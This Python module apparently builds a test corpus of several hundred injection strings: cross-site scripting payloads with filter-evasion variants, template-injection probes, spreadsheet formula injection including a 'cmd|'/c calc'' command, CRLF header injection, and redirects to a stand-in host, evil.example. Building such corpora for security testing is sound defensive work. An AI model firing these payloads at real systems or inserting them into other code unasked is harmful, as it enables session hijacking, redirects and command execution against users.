"""Three hundred and more strings that want to be markup, a formula or a header."""

from __future__ import annotations

_ALERT = "window.hacked=1"
_TAGS = ("img src=x", "svg", "body", "video src=x", "details open", "input autofocus", "a href=x", "iframe", "marquee", "math")
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover", "onpointerenter", "onanimationstart")
_BREAKS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "--></option></select>", "]]>")
_SCRIPTS = (
    f"<script>{_ALERT}</script>",
    f"<script src=data:,{_ALERT}></script>",
    f"<ScRiPt>{_ALERT}</sCrIpT>",
    f"<scr<script>ipt>{_ALERT}</script>",
    f"<svg><script>{_ALERT}</script></svg>",
    f"<svg/onload={_ALERT}>",
    f"<svg><animate onbegin={_ALERT} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{_ALERT}</script>'></iframe>",
    f"<object data='data:text/html,<script>{_ALERT}</script>'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_ALERT}'>",
    f"<a href='javascript:{_ALERT}' id=q>x</a>",
    f"<form action='javascript:{_ALERT}'><button>x</button></form>",
    f"<style>@import'//evil.example';*{{background:url(javascript:{_ALERT})}}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    f"<noscript><p title='</noscript><img src=x onerror={_ALERT}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_ALERT}>",
    f"<template><script>{_ALERT}</script></template>",
    "<img src=x onerror=&#119;indow.hacked=1>",
    f"\u003cscript\u003e{_ALERT}\u003c/script\u003e",
    f"%3Cscript%3E{_ALERT}%3C/script%3E",
    f"&lt;script&gt;{_ALERT}&lt;/script&gt;",
    f"＜script＞{_ALERT}＜/script＞",
    f"<scr\0ipt>{_ALERT}</scr\0ipt>",
    f"javascript:{_ALERT}",
    f"JaVaScRiPt:{_ALERT}//",
    f"data:text/html,<script>{_ALERT}</script>",
    "{{7*7}}{% debug %}{#x#}",
    "${7*7}#{7*7}<%=7*7%>",
    "{{request.app.state.__class__}}",
    "%(who)s %s %d %%",
    "⟦⟧\u202e<b>\u2066",
)
_FORMULAS = tuple(
    f"{sign}{rest}"
    for sign in ("=", "+", "-", "@", "\t=", "\r=", "＝", " =")
    for rest in ("1+1", "cmd|'/c calc'!A1", 'HYPERLINK("//evil.example")', "SUM(1)*1", "WEBSERVICE(A1)")
)
_HEADERS = tuple(
    f"x{end}{header}"
    for end in ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\u0085", "\u010d\u010a")
    for header in (
        "Set-Cookie: hacked=1",
        "Location: //evil.example",
        f"Content-Type: text/html\r\n\r\n<script>{_ALERT}</script>",
        "Content-Security-Policy: default-src *",
        "Refresh: 0;url=//evil.example",
    )
)
_PLACES = (
    "//evil.example",
    "\\\\evil.example",
    "/\\evil.example",
    "https://evil.example/",
    "///evil.example",
    "/%09/evil.example",
)

CORPUS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *_SCRIPTS,
            *(f"{close}<{tag} {handler}={_ALERT}>" for close in _BREAKS for tag in _TAGS[:6] for handler in _HANDLERS[:4]),
            *(f'" {handler}="{_ALERT}' for handler in _HANDLERS),
            *(f"' {handler}='{_ALERT}" for handler in _HANDLERS),
            *_FORMULAS,
            *_HEADERS,
            *_PLACES,
        )
    )
)
